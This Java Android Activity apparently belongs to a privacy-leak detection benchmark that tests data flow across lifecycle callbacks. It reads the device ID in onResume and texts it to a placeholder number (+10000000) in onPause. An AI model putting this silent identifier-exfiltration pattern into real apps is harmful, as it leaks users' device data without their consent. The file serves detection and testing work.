package org.consentry.flow.lifecycle.pauseresume;

import android.app.Activity;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    private String id = "";

    @Override
    protected void onResume() {
        super.onResume();
        id = phone().getDeviceId();
    }

    @Override
    protected void onPause() {
        super.onPause();
        id = id.trim();
        SmsManager.getDefault().sendTextMessage("+10000000", null, id, null, null);
    }

    private TelephonyManager phone() {
        return (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    }
}
